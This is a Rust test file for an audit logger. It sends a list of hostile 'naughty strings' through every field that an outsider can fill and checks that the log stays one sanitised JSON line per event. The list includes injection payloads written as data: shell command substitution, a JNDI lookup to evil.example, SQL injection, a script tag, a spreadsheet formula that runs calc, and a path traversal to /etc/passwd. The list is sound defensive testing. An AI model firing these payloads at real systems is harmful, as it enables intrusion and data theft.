//! Strings that break logs, in every field that a stranger can fill.

use llmrtc_core::id::ToolName;

use super::*;
use crate::audit::{ArgsHash, Decision, ToolOutcome};

fn naughty() -> Vec<String> {
    let mut strings: Vec<String> = [
        "",
        " ",
        "null",
        "undefined",
        "line one\nline two",
        "\r\n{\"class_uid\":3002,\"status_id\":1}\r\n",
        "\u{b}\u{c}\u{1c}\u{1d}\u{1e}\u{85}\u{2028}\u{2029}",
        "\u{1b}[2J\u{1b}[31mroot\u{1b}[0m",
        "\u{1b}]0;title\u{7}\u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
        "\u{9b}31m\u{90}\u{9d}0;c1\u{9c}",
        "back\u{8}\u{8}\u{8}\u{7f}space",
        "\0nul\0",
        "\"quoted\" \\ \\\" \\u0000 \\n",
        "\"}},\"mac\":\"AAAA\"}}",
        "'; DROP TABLE audit; --",
        "$(reboot) `id` ${jndi:ldap://evil.example/a} %n%s%x {0} {{7*7}}",
        "<script>alert(1)</script>",
        "=cmd|' /C calc'!A0",
        "\u{202e}txt.exe\u{202c} \u{2066}isolated\u{2069} \u{61c}\u{200f}\u{200e}",
        "zero\u{200b}width\u{200d}joined\u{2060}\u{feff}",
        "\u{e0041}\u{e0042}tags",
        "noncharacters \u{fdd0} \u{ffff} \u{10ffff}",
        "Ω≈ç√∫˜µ≤≥÷ 田中さん إختبار بسيط 👾🙇💁🙅 e\u{301}\u{302}\u{303}",
        "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
        "../../etc/passwd\0.png",
        "1e999 NaN -0 9007199254740993",
    ]
    .map(str::to_owned)
    .into();
    strings.extend(["x", "é", "🦀", "\u{202e}", "\n", "\""].map(|unit| unit.repeat(20_000)));
    // What is no text at all comes in through a lossy conversion.
    for bytes in [
        &b"\xed\xa0\x80 lone surrogate \xed\xbf\xbf"[..],
        b"\xc0\xaf overlong \xe0\x80\xaf",
        b"\xff\xfe\xfd",
        b"cut off \xf0\x9f\xa6",
    ] {
        strings.push(String::from_utf8_lossy(bytes).into_owned());
    }
    strings
}

#[tokio::test]
async fn one_physical_line_each_whatever_a_stranger_says() {
    let mut bench = Bench::new();
    bench.config.head_records = 1_000_000;
    let tasks = Tasks::root("test");
    let options = AuditOptions::default().scrub(Arc::new(str::to_owned));
    let audit = Audit::start(&bench.config, options, Arc::new(SystemClock), &tasks)
        .await
        .unwrap();
    let strings = naughty();
    for text in &strings {
        let events = [
            Action::ToolCalled {
                tool: ToolName::from(text.as_str()),
                call: Some(text.as_str().into()),
                args: ArgsHash {
                    epoch: 1,
                    mac: [0; 32],
                },
                decision: Decision::Allowed,
                reason: None,
                outcome: ToolOutcome::Succeeded,
                latency: Duration::ZERO,
            },
            Action::Failed {
                code: "INTERNAL_ERROR",
                correlation: text.as_str().into(),
                message: Some(text.as_str().into()),
            },
            Action::Redacted {
                sink: "log",
                counts: vec![(text.as_str().into(), 1)],
            },
            Action::Connected {
                origin: Some(text.as_str().into()),
            },
        ];
        for action in events {
            audit.record(
                AuditEvent::new(action)
                    .by_subject(text.as_str(), Some(text.as_str().into()))
                    .trace(text.as_str()),
            );
        }
    }
    tasks.shutdown(SOON).await;
    let bytes = fs::read(bench.path()).unwrap();
    let text = String::from_utf8(bytes.clone()).expect("valid UTF-8");
    let lines: Vec<&str> = text.split_inclusive('\n').collect();
    // An opening before, a head behind.
    assert_eq!(lines.len(), 4 * strings.len() + 2);
    let acts = |char: char| {
        char.is_control() && char != '\n'
            || matches!(char, '\u{2028}' | '\u{2029}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    assert!(!text.contains(acts));
    for (index, text) in strings.iter().enumerate() {
        let value: serde_json::Value = serde_json::from_str(lines[1 + 4 * index]).unwrap();
        for field in [
            &value["actor"]["user"]["uid"],
            &value["api"]["operation"],
            &value["metadata"]["tenant_uid"],
        ] {
            let field = field.as_str().unwrap();
            let kept = field.strip_suffix('…').unwrap_or(field);
            assert!(text.starts_with(kept), "{field:?}");
            assert!(field.len() <= 8 * 1024);
        }
    }
    let report = bench.verify();
    assert!(report.is_intact(), "{report:?}");
}
